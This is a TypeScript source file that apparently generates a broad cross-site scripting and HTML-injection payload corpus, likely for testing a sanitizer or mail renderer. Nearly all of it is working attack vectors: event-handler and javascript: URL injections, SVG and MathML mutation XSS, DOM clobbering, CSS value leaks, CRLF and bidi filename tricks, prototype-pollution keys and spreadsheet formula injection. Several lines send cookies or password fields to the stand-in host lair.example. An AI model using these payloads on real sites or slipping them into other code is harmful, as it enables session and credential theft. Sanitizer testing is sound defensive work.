/** What a payload does where it runs: says so, where the watch hears it, or calls home. */
export const scripts = [
  "console.log('RAN')",
  'alert(document.domain)',
  "fetch('//lair.example/f')",
  "top.location='//lair.example/t'",
  "new Image().src='//lair.example/i'",
  'console.log`RAN`',
  "[].constructor.constructor('console.log(`RAN`)')()",
  "window['con'+'sole']['l'+'og']('RAN')",
  "import('//lair.example/m.js')",
  "navigator.sendBeacon('//lair.example/b',document.cookie)",
  "new WebSocket('wss://lair.example/w')",
  "open('//lair.example/o')",
];

/** Writes one payload of its family around a script; those that only call home take no script. */
export type Carrier = (script: string) => string;

const lair = '//lair.example';
const tags = [
  'img src=x',
  'svg',
  'body',
  'input',
  'details open',
  'video src=x',
  'audio src=x',
  'marquee',
  'iframe',
  'object data=x',
  'embed src=x',
  'select',
  'style',
  'math',
  'a href=# ',
  'dialog open',
  'button popovertarget=p',
  'image src=x',
];
const events = [
  'onerror',
  'onload',
  'onfocus autofocus tabindex=1 x',
  'onpointerenter',
  'onanimationstart',
  'ontoggle',
  'onbeforetoggle',
  'onscrollend',
  'oncontentvisibilityautostatechange style=content-visibility:auto x',
];

/** By what they abuse. Each family has the same share of all payloads, however many carriers it has. */
export const families: Record<string, readonly Carrier[]> = {
  events: events.flatMap((event) =>
    tags.map(
      (tag): Carrier =>
        (script) =>
          `<${tag} ${event}="${script}">`,
    ),
  ),
  scripts: [
    (script) => `<script>${script}</script>`,
    (script) => `<script src="data:text/javascript,${encodeURIComponent(script)}"></script>`,
    (script) => `<script type=module>${script}</script>`,
    (script) => `<script src=${lair}/${script.length}.js async defer></script>`,
    (script) => `<script type=importmap>{"imports":{"preact":"data:text/javascript,${script}"}}</script>`,
    () => `<script type=speculationrules>{"prefetch":[{"urls":["https:${lair}/spec"]}]}</script>`,
    (script) => `<script xlink:href="data:text/javascript,${script}"></script>`,
  ],
  links: [
    'javascript:',
    'vbscript:',
    'data:text/html,<script>',
    'view-source:javascript:',
    'feed:javascript:',
    'blob:',
    'jar:',
    'livescript:',
    'filesystem:',
  ].flatMap((scheme): Carrier[] => [
    (script) => `<a href="${scheme}${script}">x</a>`,
    (script) => `<area href="${scheme}${script}" shape=default><map name=m></map>`,
    (script) =>
      `<a href=x ping="${lair}/ping?${script.length}" target=_top xlink:href='${scheme}${script}'>x</a>`,
  ]),
  forms: [
    (script) => `<form action="javascript:${script}"><button id=go>x</button></form>`,
    (script) => `<button form=f formaction="javascript:${script}">x</button><form id=f>`,
    (script) =>
      `<form action=${lair}/steal?${script.length}><input name=password autofocus><input type=submit>`,
    (script) => `<input type=image src=${lair}/n formaction="javascript:${script}">`,
    (script) => `<isindex action="javascript:${script}" type=image>`,
    (script) => `<form><keygen autofocus onfocus="${script}"></form>`,
    () => `</form><form method=dialog action=${lair}/d><textarea name=rest>`,
  ],
  frames: [
    (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
    (script) => `<iframe srcdoc="&lt;img src=x onerror=&quot;${script}&quot;&gt;"></iframe>`,
    (script) => `<iframe src="javascript:${script}"></iframe>`,
    (script) => `<iframe src="data:text/html;base64,${btoa(`<script>${script}</script>`)}"></iframe>`,
    (script) => `<frameset onload="${script}"><frame src="javascript:${script}"></frameset>`,
    () => `<iframe src=${lair}/frame loading=eager referrerpolicy=unsafe-url allow=camera></iframe>`,
    (script) =>
      `<portal src="javascript:${script}"></portal><fencedframe src="javascript:${script}"></fencedframe>`,
  ],
  objects: [
    (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
    (script) =>
      `<object type=text/html data="javascript:${script}"><param name=src value="javascript:${script}"></object>`,
    (script) => `<embed src="javascript:${script}" type=text/html>`,
    () => `<embed src=${lair}/e.swf allowscriptaccess=always><applet code=x codebase=${lair}/a></applet>`,
    (script) =>
      `<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value="javascript:${script}"></object>`,
  ],
  svg: [
    (script) => `<svg><script>${script}</script></svg>`,
    (script) =>
      `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='${script}'/></svg>#x"/></svg>`,
    (script) =>
      `<svg><animate attributeName=href values="javascript:${script}"/><a id=x><text y=9>x</text></a></svg>`,
    (script) =>
      `<svg><a><set attributeName=href to="javascript:${script}"/><rect width=99 height=99 /></a></svg>`,
    (script) => `<svg><animate onbegin="${script}" attributeName=x dur=1s></svg>`,
    (script) =>
      `<svg><foreignObject><iframe srcdoc="<script>${script}</script>"></iframe></foreignObject></svg>`,
    (script) =>
      `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${script}</handler></svg>`,
    () =>
      `<svg><image href=${lair}/svg /><feImage href=${lair}/fe /><filter id=f><feImage xlink:href=${lair}/fx /></filter></svg>`,
    () => `<svg><style>@import '${lair}/svg.css';*{fill:url(${lair}/fill)}</style><rect /></svg>`,
    (script) => `<svg><discard onbegin="${script}"/><desc><img src=x onerror="${script}"></desc></svg>`,
  ],
  math: [
    (script) => `<math href="javascript:${script}">x</math>`,
    (script) => `<math><maction actiontype=statusline#x xlink:href="javascript:${script}">x</maction></math>`,
    (script) =>
      `<math><annotation-xml encoding=text/html><img src=x onerror="${script}"></annotation-xml></math>`,
    (script) =>
      `<math><semantics><annotation-xml><foreignObject><script>${script}</script></foreignObject></annotation-xml></semantics></math>`,
    () => `<math><mglyph src=${lair}/g altimg=${lair}/alt><mi background=${lair}/mi></math>`,
  ],
  mutation: [
    (script) =>
      `<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style></mglyph></table></mtext></math>`,
    (script) => `<svg></p><style><a id="</style><img src=1 onerror=${script}>"></svg>`,
    (script) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
    (script) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${script}">`,
    (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
    (script) => `<noembed><img title="</noembed><img src=x onerror=${script}>"></noembed>`,
    (script) => `<xmp><p title="</xmp><svg/onload=${script}>"></xmp>`,
    (script) => `<svg><title><style><a title="</style></title><img src=x onerror=${script}>"></svg>`,
    (script) =>
      `<select><template><style><!--</style><a rel="--></style></template><img src=x onerror=${script}>"></select>`,
    (script) => `<table><tr><td><svg><desc><table><td></svg><img src=x onerror="${script}">`,
    (script) => `<a><table><a><img src=x onerror="${script}"></table>`,
    (script) => `${'<b>'.repeat(60)}<svg><p><style><g title="</style><img src=x onerror=${script}>">`,
    (script) => `<textarea><img title="</textarea><img src=x onerror=${script}>"></textarea>`,
    (script) => `<title><a href="</title><img src=x onerror=${script}>">`,
  ],
  comments: [
    (script) => `<!--[if gte IE 4]><script>${script}</script><![endif]-->`,
    (script) => `<!--><img src=x onerror="${script}">-->`,
    (script) => `<!---!><img src=x onerror="${script}">-->`,
    (script) => `<!--x--!><img src=x onerror="${script}">`,
    (script) =>
      `<?php echo '<img src=x onerror="${script}">'?><!DOCTYPE x [<!ENTITY y "<img src=x onerror=${script}>">]>&y;`,
    (script) => `<![CDATA[<img src=x onerror="${script}">]]>`,
    (script) => `<?xml-stylesheet href="javascript:${script}"?><x>`,
    (script) => `</ a title="><img src=x onerror=${script}>">`,
    (script) => `<%<img src=x onerror="${script}">%>`,
  ],
  templates: [
    (script) => `<template><img src=x onerror="${script}"></template>`,
    (script) =>
      `<div><template shadowrootmode=open><img src=x onerror="${script}"><slot></slot></template></div>`,
    (script) => `<template shadowroot=open><script>${script}</script></template>`,
    (script) => `{{constructor.constructor("${script}")()}}`,
    (script) => `\${${script}}#{${script}}<%= ${script} %>`,
    (script) =>
      `{{#with "s" as |string|}}{{#with split as |c|}}{{this.push (lookup string.sub "${script}")}}{{/with}}{{/with}}`,
    (script) => `[[${script}]]{%raw%}<script>${script}</script>{%endraw%}{{'x'|safe}}`,
    (script) => `<div ng-app ng-csp><input autofocus ng-focus="$event.view.${script}"></div>`,
    (script) =>
      `<div v-html="'<img src=x onerror=${script}>'" x-data x-init="${script}" hx-get=${lair}/hx hx-trigger=load>`,
    (script) =>
      `<div data-bind="html:'<img src=x onerror=${script}>'" data-toggle=tooltip data-html=true title="<img src=x onerror=${script}>">`,
  ],
  styles: [
    (script) => `<div style="background:url('javascript:${script}')">x</div>`,
    (script) =>
      `<div style="width:expression(${script});behavior:url(${lair}/x.htc);-moz-binding:url(${lair}/x.xml#x)">x</div>`,
    () => `<div style="background-image:url(${lair}/c);list-style:url(${lair}/l)">x</div>`,
    () => `<p style="background:image-set('${lair}/1x' 1x,url(${lair}/2x) 2x)">x</p>`,
    () => `<p style="background:-webkit-image-set(url(${lair}/w) 1x);border-image:url(${lair}/bi) 9">x</p>`,
    () => `<p style="content:url(${lair}/ct);cursor:url(${lair}/cu),auto;mask:url(${lair}/m)">x</p>`,
    () => `<p style="background:u\\72l(${lair}/esc);--x:url(${lair}/var);background:var(--x)">x</p>`,
    () =>
      `<p style="background:/**/url/**/(${lair}/cm);filter:url(${lair}/f.svg#f);clip-path:url(${lair}/cp#p)">x</p>`,
    () =>
      `<p style="background:cross-fade(url(${lair}/a),url(${lair}/b),50%);shape-outside:url(${lair}/so)">x</p>`,
    () => `<p style='background:url("${lair}/q&#34;);background:url(${lair}/r")'>x</p>`,
    () =>
      `<div style="position:fixed;inset:0;z-index:99999;opacity:.01"><a href=https:${lair}/click>x</a></div>`,
    () =>
      `<font color="url(${lair}/fc)" face="x;background:url(${lair}/ff)">x</font><p style="color:red;background:url(${lair}/k">`,
  ],
  sheets: [
    () => `<style>@import '${lair}/s.css';*{cursor:url(${lair}/u),auto}</style>`,
    () => `<style>@import url(${lair}/t.css) layer(x) supports(display:grid) screen;</style>`,
    () => `<style>@font-face{font-family:x;src:url(${lair}/font)}*{font-family:x}</style>`,
    () =>
      `<style>input[value^=a]{background:url(${lair}/a)}input[value^=b]{background:url(${lair}/b)}</style>`,
    () => `<style>@namespace url(${lair}/ns);:root{--a:url(${lair}/root)}body{background:var(--a)}</style>`,
    (script) => `<link rel=stylesheet href="data:text/css,*{background:url(${lair}/${script.length})}">`,
    () =>
      `<link rel="stylesheet alternate" href=${lair}/alt.css><style media=all>@charset "x";@\\69mport '${lair}/esc.css'</style>`,
    (script) => `<style><img src="</style><img src=x onerror=${script}//">`,
    () =>
      `<style>@view-transition{navigation:auto}@property --p{syntax:'*';inherits:false;initial-value:url(${lair}/prop)}</style>`,
  ],
  heads: [
    (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
    () => `<meta http-equiv=refresh content="0; ${lair}/refresh"><meta http-equiv=Set-Cookie content=a=b>`,
    (script) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${script}</script>">`,
    () =>
      `<meta http-equiv=Content-Security-Policy content="report-uri ${lair}/report; script-src 'none'"><meta http-equiv=x-dns-prefetch-control content=on>`,
    (script) => `<base href="javascript:${script}//"><a href=x>x</a>`,
    () => `<base href=${lair}/ target=_top><img src=relative><a href=.>x</a>`,
    () => `<meta name=referrer content=unsafe-url><meta charset=utf-7>+ADw-img src=x+AD4-`,
    (script) =>
      `<html manifest=${lair}/m onload="${script}"><head profile=${lair}/p><body onload="${script}">`,
  ],
  hints: [
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'preload as=image',
    'modulepreload',
    'prerender',
    'icon',
    'manifest',
    'pingback',
    'search',
    'import',
    'next',
    'expect',
  ].map(
    (rel): Carrier =>
      (script) =>
        `<link rel=${rel} href=${lair}/hint-${rel.split(' ', 1)[0]}-${script.length} crossorigin><a rel=${rel.split(' ', 1)[0]} href=${lair}/a></a>`,
  ),
  pictures: [
    () => `<img src=${lair}/i srcset="${lair}/s 2x"><picture><source srcset=${lair}/q></picture>`,
    () =>
      `<img srcset=",${lair}/s1 1w,${lair}/s2 2w" sizes=1px lowsrc=${lair}/low dynsrc=${lair}/dyn longdesc=${lair}/long>`,
    () =>
      `<img src=x imagesrcset=${lair}/im attributionsrc=${lair}/attr usemap=#m loading=eager fetchpriority=high>`,
    () => `<video poster=${lair}/v><source src=${lair}/w><track src=${lair}/k default></video>`,
    () => `<audio autoplay src=${lair}/au></audio><bgsound src=${lair}/bg><xml src=${lair}/xml>`,
    () => `<table background=${lair}/b><td background=${lair}/d>x</table><body background=${lair}/body>`,
    (script) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'><image href='${lair}/in'/></svg>">`,
    () =>
      `<img src="/\\lair.example/back"><img src="\\\\lair.example\\unc"><img src="///lair.example/three">`,
    () =>
      `<img src="https:lair.example/one"><img src="http:/lair.example/two"><img src="h\nttps:${lair}/nl">`,
    () =>
      `<img src=x data-remote-src=${lair}/forged data-cid=forged><img src=/auth/sign-out><img src=/api/v1/me>`,
  ],
  clobbering: [
    'attributes',
    'innerHTML',
    'nodeName',
    'parentNode',
    'childNodes',
    'firstChild',
    'removeChild',
    'location',
    'cookie',
    'body',
    'getElementById',
    'hilo',
    'currentScript',
    'defaultView',
    'test',
  ].map(
    (name): Carrier =>
      (script) =>
        `<form id=${name}><input name=${name}><input name=attributes id=__proto__><img name=${name} id=${name} src=x onerror="${script}"></form><a id=${name} name=href href="javascript:${script}">x</a>`,
  ),
  elements: [
    (script) => `<xss id=x tabindex=1 onfocus="${script}" autofocus>x</xss>`,
    (script) => `<hilo-chat is=hilo-chat contenteditable onbeforeinput="${script}" autofocus>x</hilo-chat>`,
    (script) =>
      `<button popovertarget=p commandfor=p command=show-popover onclick="${script}">x</button><p popover id=p onbeforetoggle="${script}">x`,
    (script) =>
      `<input type=hidden oncontentvisibilityautostatechange="${script}" style=content-visibility:auto accesskey=x onclick="${script}">`,
    (script) =>
      `<details open ontoggle="${script}"><summary>x</summary><slot onslotchange="${script}"></details>`,
    (script) =>
      `<event-source src=${lair}/es><layer src=${lair}/layer onload="${script}"></layer><ilayer src=${lair}/il>`,
    (script) =>
      `<selectedcontent><select><button><selectedcontent></button><option><img src=x onerror="${script}">`,
    (script) => `<plaintext><img src=x onerror="${script}">`,
    (script) => `<listing>&lt;img src=x onerror=${script}&gt;</listing><nextid onpropertychange="${script}">`,
  ],
  words: [
    (script) => `[x](javascript:${script}) ![x](${lair}/m) <javascript:${script}>`,
    (script) =>
      `javascript:${script} http://x.example/"onmouseover="${script} https://x.example/<img src=x onerror=${script}>`,
    (script) =>
      `[a]: javascript:${script}\n[x][a] [![x](${lair}/n)](data:text/html,<script>${script}</script>)`,
    (script) =>
      `https://a:b@x.example/'onclick='${script} www.x.example/\`onclick=\`${script} mailto:a@b.example?body=<script>${script}</script>`,
    (script) =>
      `ana@x.example"onfocus="${script} http://[::1]/<svg/onload=${script}> HTTPS://X.example/%22%3E%3Cscript%3E${script}`,
    (script) =>
      `\`\`\`<script>${script}</script>\`\`\` ~~<img src=x onerror="${script}">~~ |a|<td onmouseover="${script}">|`,
    (script) =>
      `@marta<img src=x onerror="${script}"> #<b onmouseover="${script}">x :<svg/onload=${script}>: H-7K3-QX4-TB9"><script>${script}</script>`,
    (script) =>
      `http://x.example/${'a'.repeat(200)}"><script>${script}</script> ftp://x.example/ file:///etc/passwd javascript://x.example/%0a${script}`,
    (script) => `=cmd|'/c ${script}'!A1 =HYPERLINK("${lair}/csv?"&A1,"x") @SUM(1)<script>${script}</script>`,
  ],
  hidden: [
    (script) => `\u202Egpj.exe\u202C"><img src=x onerror="${script}">.png`,
    (script) => `\u2066<script>${script}</script>\u2069\u200F\u061Cinforme.pdf`,
    (script) => `in\u200Bfor\u200Dme\u2060<img src=x onerror="${script}">\uFE0F\u{E0061}`,
    (script) => `a\r\nContent-Type: text/html\r\n\r\n<script>${script}</script>`,
    (script) => `a\nBcc: todos@lair.example\n<img src=x onerror="${script}">`,
    (script) => `..\\..\\..%2f..%2f<img src=x onerror="${script}">.svg`,
    (script) => `informe.html\0.png<script>${script}</script>`,
    (script) => `\u0001\u0008\u001B[2J\u001B]0;x\u0007<img src=x onerror="${script}">\u007F\u0085\u009B`,
    (script) => `\uD800\uDFFF\uFFFE\uFFFF<script>${script}</script>\uDC00`,
    (script) => `Ana\u202E${script}\u202C; filename="x.html"; name*=utf-8''%3Cscript%3E${script}`,
    (script) => `=?utf-8?q?=3Cimg_src=3Dx_onerror=3D"${script}"=3E?=`,
    (script) => `=?utf-8?b?${btoa(`<script>${script}</script>`)}?= <${script.length}@x.example>`,
  ],
  names: [
    '__proto__',
    'constructor',
    'prototype',
    '__proto__.isAdmin',
    'constructor.prototype.polluted',
    'hasOwnProperty',
    'toString',
    '__defineGetter__',
    'then',
    'toJSON',
    '$where',
    'undefined',
    'null',
  ].map(
    (name): Carrier =>
      (script) =>
        `${name}[${name}]=<img src=x onerror="${script}"> {"${name}":{"dangerouslySetInnerHTML":{"__html":"<script>${script}</script>"},"polluted":"RAN"}}`,
  ),
  letters: [
    (script) =>
      `<img src="cid:a" onerror="${script}"><img src="cid:${lair}/cid"><img src="CID:javascript:${script}">`,
    (script) =>
      `<a href="cid:x">x</a><a href="mid:y">x</a><iframe src="cid:page"></iframe><object data="cid:${script.length}"></object>`,
    (script) =>
      `<blockquote class="gmail_quote" onmouseover="${script}"><div class="gmail_attr"><script>${script}</script></div></blockquote>`,
    (script) =>
      `<div class=WordSection1><o:p onload="${script}"></o:p><v:shape style="behavior:url(#default#VML)"><v:imagedata src=${lair}/vml></v:shape></div>`,
    (script) =>
      `<div itemscope itemtype=http://schema.org/EmailMessage><script type=application/ld+json>{"url":"javascript:${script}"}</script></div>`,
    () =>
      `<img src=https:${lair}/open.gif width=1 height=1><img src="http:${lair}/pixel" style=display:none>`,
    (script) => `--b\r\nContent-Type: text/html\r\n\r\n<script>${script}</script>\r\n--b--`,
    (script) => `begin 644 x.html\n#0V%T\n\`\nend\n<script>${script}</script>`,
    (script) =>
      `<html amp4email><amp-img src=https:${lair}/amp onerror="${script}"></amp-img><script async src=https:${lair}/amp.js></script>`,
    (script) =>
      `> <script>${script}</script>\n-- \n<img src=x onerror="${script}">\nOn Mon, X <x@x.example> wrote:\n> </blockquote><svg onload="${script}">`,
  ],
};
